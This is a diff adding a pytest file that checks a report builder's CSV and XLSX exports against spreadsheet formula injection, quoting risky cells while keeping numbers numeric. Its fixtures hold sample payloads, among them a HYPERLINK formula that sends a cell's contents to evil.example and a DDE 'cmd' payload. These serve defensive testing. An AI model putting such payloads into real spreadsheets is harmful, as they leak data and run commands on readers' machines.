@@ -1,0 +1,100 @@
+"""Hostile content in what reaches readers besides pages: spreadsheets, `build.py diff`, git history."""
+
+from __future__ import annotations
+
+import csv
+import io
+from decimal import Decimal
+
+import openpyxl
+import pytest
+
+from builder import export
+
+from builder.spreadsheet import spreadsheet_text
+from conftest import PROJECT
+
+# Text that a spreadsheet would take for a formula, each in a text field of the scratch project.
+FORMULAS = {
+    "project_name": '=HYPERLINK("http://evil.example/?"&A1,"点击")',
+    "purpose": "+1+1",
+    "target": "-2+3",
+    "basis": "@SUM(1+1)",
+    "description": "＝1+1",
+    "milestone": "-cmd|' /C calc'!A0",
+}
+
+
+def formula_project() -> str:
+    text = PROJECT
+    for key, old in (("project_name", "name: 测试项目"), ("purpose", "purpose: 测试用途。"),
+                     ("milestone", "milestone: 6月底"), ("target", "target: ≥4次")):
+        field = old.split(":")[0]
+        text = text.replace(old, f"{field}: '{FORMULAS[key].replace(chr(39), chr(39) * 2)}'", 1)
+    return text.replace("    name: 活动次数\n", "    name: 活动次数\n    description: '＝1+1'\n    basis: '@SUM(1+1)'\n"
+                        )
+
+
+@pytest.mark.parametrize("text, safe", [
+    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"),
+    ("\r=1", "'\r=1"), ("\n=1", "'\n=1"), ("＝1+1", "'＝1+1"), ("＋1", "'＋1"), ("－1", "'－1"), ("＠x", "'＠x"),
+    ("测试", "测试"), ("a=1", "a=1"), ("", ""), ("'=1", "'=1"),
+])
+def test_spreadsheet_text_starts_no_formula(text, safe):
+    assert spreadsheet_text(text) == safe
+
+
+def test_csv_and_xlsx_cells_never_start_a_formula_and_numbers_stay_numbers(scratch, cli):
+    scratch.project().write_text(formula_project(), encoding="utf-8")
+    run = cli("build", "--no-pdf", cwd=scratch.root)
+    assert run.code == 0, run.err
+    data = scratch.root / "output" / "data" / "all"
+    tables = {name: list(csv.DictReader(io.StringIO((data / f"{name}.csv").read_text(encoding="utf-8-sig"))))
+              for name in ("projects", "spending_plan", "indicators")}
+    project, = tables["projects"]
+    assert project["project_name"] == "'" + FORMULAS["project_name"]
+    assert project["purpose"] == "'+1+1"
+    assert project["budget_total"] == "100000.00"
+    assert tables["spending_plan"][0]["milestone"] == "'" + FORMULAS["milestone"]
+    assert tables["spending_plan"][0]["cumulative_percent"] == "50"
+    first, cost = tables["indicators"][0], tables["indicators"][1]
+    assert (first["target"], first["description"], first["basis"]) == ("'-2+3", "'＝1+1", "'@SUM(1+1)")
+    assert (cost["target"], cost["value"]) == ("≤10万元", "10")
+    every_cell = [v for rows in tables.values() for row in rows for v in row.values()]
+    assert not [v for v in every_cell if v and v[0] in "=+@＝＋－＠\t\r\n" or (v[:1] == "-" and not _number(v))]
+
+    book = openpyxl.load_workbook(data / "data.xlsx")
+    projects, plan, indicators = book["项目"], book["资金支出计划"], book["绩效指标"]
+    header = [c.value for c in projects[1]]
+    row = dict(zip(header, [c for c in projects[2]], strict=True))
+    assert row["项目名称"].value == "'" + FORMULAS["project_name"] and row["项目名称"].data_type == "s"
+    assert row["预算数"].value == 100000 and row["预算数"].data_type == "n"
+    assert plan.cell(2, 4).value == "'" + FORMULAS["milestone"] and plan.cell(2, 5).value == 50
+    header = [c.value for c in indicators[1]]
+    cost = dict(zip(header, [c.value for c in indicators[3]], strict=True))
+    assert cost["指标值"] == "≤10万元" and cost["数值"] == 10
+    for sheet in book.worksheets:
+        for cells in sheet.iter_rows(min_row=2):
+            for cell in cells:
+                assert cell.data_type != "f", cell.coordinate
+                if isinstance(cell.value, str):
+                    assert cell.value[:1] not in "=+-@＝＋－＠\t\r\n", (sheet.title, cell.coordinate, cell.value)
+
+
+def test_a_negative_amount_is_a_number_not_text():
+    """Content has no negative amounts today; if one comes, it must not be quoted as a formula would."""
+    row = {"budget_total": Decimal("-100.00"), "project_name": "-100.00"}
+    encoded = export.encode({"projects": [row], "spending_plan": [], "goals": [], "indicators": []})
+    cells = next(csv.reader(io.StringIO(encoded.csv["projects"])))
+    columns = [c.key for c in export.TABLES["projects"][1]]
+    assert cells[columns.index("budget_total")] == "-100.00"
+    assert cells[columns.index("project_name")] == "'-100.00"  # text that looks like a number stays text
+    assert '<c s="2"><v>-100.00</v></c>' in encoded.xlsx["projects"]
+
+
+def _number(text: str) -> bool:
+    try:
+        Decimal(text)
+    except ArithmeticError:
+        return False
+    return True
